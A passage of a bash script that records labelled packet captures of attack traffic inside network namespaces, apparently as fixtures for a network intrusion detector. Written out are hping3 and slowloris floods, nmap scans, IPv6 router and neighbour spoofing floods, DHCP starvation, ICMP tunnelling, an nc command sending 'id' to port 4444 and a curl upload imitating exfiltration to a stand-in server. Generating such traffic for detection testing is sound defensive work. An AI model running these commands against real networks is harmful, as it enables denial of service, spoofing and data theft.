	quietly client curl -s -o /dev/null -T upload.bin http://192.0.2.80/upload.bin
	printf '%s\n' "head -c $1 /dev/zero >upload.bin" 'curl -s -o /dev/null -T upload.bin http://192.0.2.80/upload.bin' >>"$work/commands"
}

# sent FILE WHAT ADDRESSES RULES ends what send began.
sent() {
	local host
	finish "$@"
	for host in home others; do ip -n "$ns-router" link set "$host" mtu 1500; done
	for host in client server; do ip -n "$ns-$host" link set eth0 mtu 1500; done
}

upload() {
	send 6000000
	sent upload.pcap '6 MB leave the home network, in frames of 9,000 bytes cut to 66' 'client 10.0.0.30, server 192.0.2.80' 'data_exfil'
}

upload-below() {
	send 4000000
	sent upload-below.pcap '4 MB leave the home network, less than the rule minds' 'client 10.0.0.30, server 192.0.2.80' none
}

nc-backdoor() {
	start 128 100 'tcp port 4444'
	# shellcheck disable=SC2016
	run client bash -c 'printf "id\nuname\n" | nc -q 1 192.0.2.80 4444'
	finish nc-backdoor.pcap 'A connection to a port of backdoors' 'client 10.0.0.30, server 192.0.2.80:4444' 'suspicious_port'
}

nmap-services-slow() {
	start 96 400 'host 198.51.100.7'
	run scan nmap -n -Pn -sS --scan-delay 2s -p 20-23,25,53,79,80,110,111,113,119,135,139,143,389,443,445 --max-retries 0 10.0.0.20
	finish nmap-services-slow.pcap 'A SYN scan of 18 ports of services, one in two seconds' '198.51.100.7 scans 10.0.0.20' 'refused_ports failed_connections crafted_syn_scan'
}

flood-routers() {
	start 90 60 'icmp6 and ip6[40] == 134'
	run intruder timeout -s INT 1 atk6-flood_router26 eth0
	finish flood-routers.pcap 'Sixty routers that are none advertise themselves' 'intruder at home, invented addresses' 'ra_flood'
}

flood-neighbors() {
	start 90 400 'icmp6 and ip6[40] == 136'
	run intruder timeout -s INT 1 atk6-flood_advertise6 eth0
	finish flood-neighbors.pcap '400 neighbours that are none advertise themselves' 'intruder at home, invented addresses' 'nd_flood'
}

# The client asks for its neighbour again and again, and the intruder answers besides.
parasite6() {
	local spoof
	start 110 200 'icmp6'
	printf '%s\n' 'atk6-parasite6 -l eth0' >>"$work/commands"
	serve intruder timeout -s INT 20 atk6-parasite6 -l eth0
	spoof=$!
	sleep 2
	for _ in {1..6}; do
		quietly client ip -6 neigh flush dev eth0
		run client ping -6 -c 1 -W 1 fd00:10::20
		sleep 1
	done
	kill "$spoof" 2>/dev/null || true
	finish parasite6.pcap 'An intruder answers for neighbours' 'intruder at home answers for fd00:10::20 to fd00:10::30' 'nd_spoof'
}

yersinia-dhcp() {
	start 330 100 'udp port 67'
	run intruder bash -c 'sleep 3 | timeout -s INT 2 yersinia dhcp -attack 1 -interface eth0' # it ends with its input
	finish yersinia-dhcp.pcap.gz 'A hundred DHCPDISCOVER, each of another client' 'intruder at home, invented clients' 'dhcp_starvation'
}

macof() {
	start 60 700 'tcp'
	run intruder macof -i eth0 -n 4000
	finish macof.pcap.gz '700 frames, each of another hardware address' 'intruder at home, invented addresses' 'mac_flood'
}

hping3-reflection() {
	start 60 800 'dst host 10.0.0.10 and udp'
	run flood hping3 -q -2 -s 161 -k -p 40000 -d 400 --rand-source -i u1000 -c 800 10.0.0.10
	finish hping3-reflection.pcap.gz 'Answers of SNMP from some 700 servers that nobody asked' 'many flood 10.0.0.10' 'reflection_flood'
}

slowhttptest() {
	start 160 3000 'host 198.51.100.8 and tcp port 80'
	run flood slowhttptest -H -c 120 -r 40 -i 5 -l 25 -u http://10.0.0.10/
	finish slowhttptest.pcap.gz '120 requests whose heads never end (slowloris)' '198.51.100.8 holds connections of 10.0.0.10:80' 'held_connections unfinished_requests'
}

ab() {
	start 140 4000 'host 198.51.100.8 and tcp port 80'
	run flood ab -q -k -n 600 -c 8 http://10.0.0.10/16
	finish ab.pcap.gz '600 requests over HTTP in a few seconds' '198.51.100.8 floods 10.0.0.10:80' 'http_flood'
}

gobuster() {
	seq -f 'page%g' 80 >"$work/pages.txt"
	start 200 2000 'host 198.51.100.7 and tcp port 80'
	run scan gobuster dir -q -t 2 -u http://10.0.0.10/ -w pages.txt
	finish gobuster.pcap.gz '80 pages of a web server guessed' '198.51.100.7 asks 10.0.0.10:80' 'bad_user_agent http_scanner'
}

ptunnel() {
	local far near
	start 200 200 'icmp'
	printf '%s\n' ptunnel 'ptunnel -p 192.0.2.80 -lp 8000 -da 192.0.2.80 -dp 80' 'curl -s http://127.0.0.1:8000/2000' >>"$work/commands"
	serve server ptunnel
	far=$!
	serve client ptunnel -p 192.0.2.80 -lp 8000 -da 192.0.2.80 -dp 80
	near=$!
	sleep 1
	quietly client curl -s -m 10 -o /dev/null http://127.0.0.1:8000/2000
	kill "$far" "$near" 2>/dev/null || true
	finish ptunnel.pcap 'HTTP tunnelled in pings' 'client 10.0.0.30, server 192.0.2.80' 'icmp_ptunnel'
}

nmap-nd-sweep() {
	start 90 700 icmp6
	run intruder nmap -6 -n -sn -T4 --max-retries 0 fd00:10::100/120
	finish nmap-nd-sweep.pcap.gz '256 IPv6 addresses of a link asked for' 'fd00:10::66 asks for fd00:10::100 to ::1ff' 'nd_sweep'
}

onesixtyone() {
	start 128 200 'udp port 161'
	seq -f 'word%g' 20 >"$work/communities.txt"
	printf '%s\n' 'onesixtyone -c words.txt -w 50 10.0.0.20' >>"$work/commands"
	quietly brute onesixtyone -c "$work/communities.txt" -w 50 10.0.0.20
	finish onesixtyone.pcap 'Twenty SNMP communities tried' '198.51.100.22 asks 10.0.0.20' 'snmp_guessing'
}

svwar() {
	local server
	start 500 400 'udp port 5060'
	serve files python3 "$here/refuse.py" smtp=2525 telnet=2323 sip=5060
	server=$!
	sleep 1
	run brute svwar -e100-130 10.0.0.20
	kill "$server" 2>/dev/null || true
	finish svwar.pcap.gz 'Thirty extensions of a SIP server guessed' '198.51.100.22 asks 10.0.0.20:5060' 'sip_guessing'
}

hping3-synack-flood-spoofed() {
	start 60 3000 'host 10.0.0.10 and tcp'
	run flood hping3 -q -S -A -s 443 -p 40000 --rand-source -i u500 -c 1800 10.0.0.10
	finish hping3-synack-flood-spoofed.pcap.gz '1,800 SYN+ACK in two seconds, each with an invented source, and the RST that answer them' 'many flood 10.0.0.10' 'synack_flood ack_flood'
}

# --- the demo ---------------------------------------------------------------------------------

# demo lays recordings on one timeline that begins at 2026-11-20 12:00:00 UTC.
demo() {
	local parts=() at file first base
	base=$(date -u -d '2026-11-20 12:00:00' +%s)
	: >"$work/commands"
	while read -r at file; do
		[[ -f $out/$file ]] || die "$file: not recorded, so there can be no demo"
		first=$(tshark -r "$out/$file" -c 1 -T fields -e frame.time_epoch 2>/dev/null)
		editcap -F pcap -t "$(awk -v a="$base" -v b="$at" -v c="$first" 'BEGIN { printf "%.6f", a + b - c }')" "$out/$file" "$work/demo-$at.pcap"
		parts+=("$work/demo-$at.pcap")
		printf '%s\n' "at $at s: ${file%%.*}" >>"$work/commands"
	done <<-LIST
		0 curl-benign.pcap
		2 dig-benign.pcap
		6 nmap-sweep.pcap
		8 nmap-syn.pcap
		12 ping-benign.pcap
		14 hydra-ftp.pcap.gz
		24 ssh-benign.pcap
		26 arpspoof.pcap
		34 iodine.pcap
		40 nc-backdoor.pcap
		45 nmap-xmas.pcap
		52 upload.pcap
		62 hping3-syn-flood.pcap
		70 nmap-syn-ipv6.pcap
		76 hping3-icmp-flood.pcap
	LIST
	mergecap -F pcap -w "$work/raw.pcap" "${parts[@]}"
	keep demo.pcap.gz 'Recordings from above on one timeline, as the command of the README replays them' 'as above' \
		'host_sweep port_scan syn_ratio brute_force arp_spoof dns_tunnel dns_tunnel_volume suspicious_port stealth_scan data_exfil syn_flood syn_flood_fast icmp_flood'
}

main() {
	local name wanted=("$@")
	if [[ ${1-} == --list ]]; then
		printf '%s\n' "${recordings[@]}" demo
		return
	fi
	if [[ ${1-} == --packages ]]; then
		tools | cut -d' ' -f2 | sort -u
		return
	fi
	((${#wanted[@]})) || wanted=("${recordings[@]}" demo)
	for name in "${wanted[@]}"; do
		[[ " ${recordings[*]} demo " == *" $name "* ]] || die "no recording is called $name; --list names them"
	done
	need
	! ip netns list | grep -q "^$ns-" || die "namespaces called $ns-… are there already, of another run; end it, or delete them with: ip netns delete NAME"
	mkdir -p "$out"
	work=$(mktemp -d)
	trap down EXIT
	trap 'exit 130' INT TERM
	cd "$work" # where the tools find their files, and leave theirs
	seq -f 'word%g' 45 >words.txt
	build
	services
	for name in "${wanted[@]}"; do "$name"; done
}

[[ ${BASH_SOURCE[0]} != "$0" ]] || main "$@"
